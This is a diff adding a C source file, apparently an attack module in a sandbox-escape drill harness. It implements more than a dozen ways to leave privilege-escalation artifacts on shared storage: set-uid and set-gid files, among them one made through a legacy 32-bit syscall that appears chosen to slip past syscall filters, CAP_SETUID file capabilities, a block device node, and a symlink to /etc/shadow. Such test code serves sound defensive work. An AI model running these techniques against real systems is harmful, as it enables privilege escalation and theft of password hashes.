@@ -1,0 +1,113 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * Leaves something on storage that others reach, by many roads: a set-uid or set-gid program, file
+ * capabilities, a device node, a link for a root reader.
+ */
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <linux/capability.h>
+#include <stdint.h>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <sys/xattr.h>
+
+#include "drill/attacks/attack.h"
+
+static int file_of(const char* path, mode_t mode) {
+  return open(path, O_WRONLY | O_CREAT | O_CLOEXEC, mode);
+}
+
+static long by_mode(const char* path) {
+  return file_of(path, 0755) < 0 ? -1 : chmod(path, S_ISUID | 0755);
+}
+static long by_descriptor_mode(const char* path) {
+  int fd = file_of(path, 0755);
+  return fd < 0 ? -1 : fchmod(fd, S_ISUID | 0755);
+}
+static long by_birth(const char* path) {
+  umask(0);
+  return open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, S_ISUID | 0755);
+}
+static long by_node(const char* path) {
+  umask(0);
+  return mknod(path, S_IFREG | S_ISUID | 0755, 0);
+}
+static long by_group(const char* path) {
+  return file_of(path, 0755) < 0 ? -1 : chmod(path, S_ISGID | 0755);
+}
+static long by_compat(const char* path) {
+  static char low[4096]; /* at a low address: the program is linked there */
+  int result;
+  if (file_of(path, 0755) < 0) return -1;
+  snprintf(low, sizeof(low), "%s", path);
+  __asm__ volatile("int $0x80"
+                   : "=a"(result)
+                   : "a"(15), "b"(low), "c"(S_ISUID | 0755)
+                   : "memory", "r8", "r9", "r10", "r11");
+  errno = -result;
+  return result;
+}
+
+/* A file is dressed elsewhere and brought in by its name; `across` must be the same mount. */
+static long by_rename(const char* path) {
+  char elsewhere[4096];
+  snprintf(elsewhere, sizeof(elsewhere), "%s.new", path);
+  if (by_birth(elsewhere) < 0) return -1;
+  return rename(elsewhere, path);
+}
+
+static long by_link(const char* path) {
+  char elsewhere[4096];
+  snprintf(elsewhere, sizeof(elsewhere), "%s.new", path);
+  if (by_birth(elsewhere) < 0) return -1;
+  return link(elsewhere, path);
+}
+
+/* Without a name until it is dressed. */
+static long by_nameless(const char* path) {
+  char above[4096], name[64];
+  snprintf(above, sizeof(above), "%.*s", (int)(strrchr(path, '/') - path), path);
+  int fd = open(above, O_TMPFILE | O_WRONLY | O_CLOEXEC, 0755);
+  snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
+  if (fd < 0 || fchmod(fd, S_ISUID | 0755) < 0) return -1;
+  return linkat(AT_FDCWD, name, AT_FDCWD, path, AT_SYMLINK_FOLLOW);
+}
+
+static long by_capability(const char* path) {
+  const struct vfs_cap_data all = {.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE,
+                                   .data = {{.permitted = 1u << CAP_SETUID}}};
+  return file_of(path, 0755) < 0 ? -1 : setxattr(path, "security.capability", &all, sizeof(all), 0);
+}
+static long by_descriptor_capability(const char* path) {
+  const struct vfs_cap_data all = {.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE,
+                                   .data = {{.permitted = 1u << CAP_SETUID}}};
+  int fd = file_of(path, 0755);
+  return fd < 0 ? -1 : fsetxattr(fd, "security.capability", &all, sizeof(all), 0);
+}
+static long by_device(const char* path) { return mknod(path, S_IFBLK | 0666, makedev(7, 0)); }
+static long by_symlink(const char* path) { return symlink("/etc/shadow", path); }
+static long by_nothing(const char* path) { return file_of(path, 0755); }
+
+static const struct road {
+  const char* name;
+  long (*take)(const char* path);
+} roads[] = {{"mode", by_mode},
+             {"fmode", by_descriptor_mode},
+             {"birth", by_birth},
+             {"node", by_node},
+             {"group", by_group},
+             {"compat", by_compat},
+             {"rename", by_rename},
+             {"link", by_link},
+             {"nameless", by_nameless},
+             {"capability", by_capability},
+             {"fcapability", by_descriptor_capability},
+             {"device", by_device},
+             {"symlink", by_symlink},
+             {"plain", by_nothing}};
+
+int attack_leave(int argc, char** argv) {
+  for (size_t i = 0; argc == 3 && i < sizeof(roads) / sizeof(roads[0]); i++)
+    if (strcmp(roads[i].name, argv[1]) == 0) return finish(roads[i].take(argv[2]));
+  return usage("leave ROAD PATH (see leave.c for the roads)");
+}
